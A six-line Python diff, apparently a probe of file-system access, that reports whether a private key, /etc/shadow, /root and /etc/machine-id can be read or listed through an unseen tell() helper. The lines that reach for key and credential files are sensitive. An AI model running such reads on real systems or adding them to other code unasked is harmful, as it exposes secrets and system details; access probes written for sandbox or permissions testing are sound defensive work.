@@ -1,0 +1,6 @@
+tell('file', lambda: read(P['file']))
+tell('private file', lambda: read(P['key']))
+tell('folder', lambda: ' '.join(os.listdir(P['folder'])))
+tell('shadow', lambda: len(read('/etc/shadow')) and 'shadow')
+tell('home', lambda: ' '.join(os.listdir('/root'))[:40])
+tell('machine', lambda: read('/etc/machine-id'))
